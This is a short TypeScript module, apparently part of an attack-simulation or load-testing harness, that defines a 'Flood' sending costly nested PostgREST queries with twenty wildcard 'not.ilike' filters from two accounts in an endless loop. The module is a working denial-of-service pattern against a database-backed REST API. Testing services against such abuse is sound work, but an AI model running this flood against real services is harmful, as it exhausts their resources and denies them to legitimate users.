import { ask, type Flood, forEver } from './attacker.ts'

const FILTERS = Array.from({ length: 20 }, (_, n) => `blogs.profiles.blogs.content=not.ilike.*nothing${n}*`)
const PATH = `/rest/v1/comments?select=id,blogs(profiles(blogs(id)))&${FILTERS.join('&')}`

/** Each account reads lists in lists in lists, filtered by patterns, two at a time. */
export const embeddedReads: Flood = async (attacker, begin) => {
  begin()
  await Promise.all([0, 1].map(account => forEver(2, () => ask(attacker, { path: PATH }, account))))
}
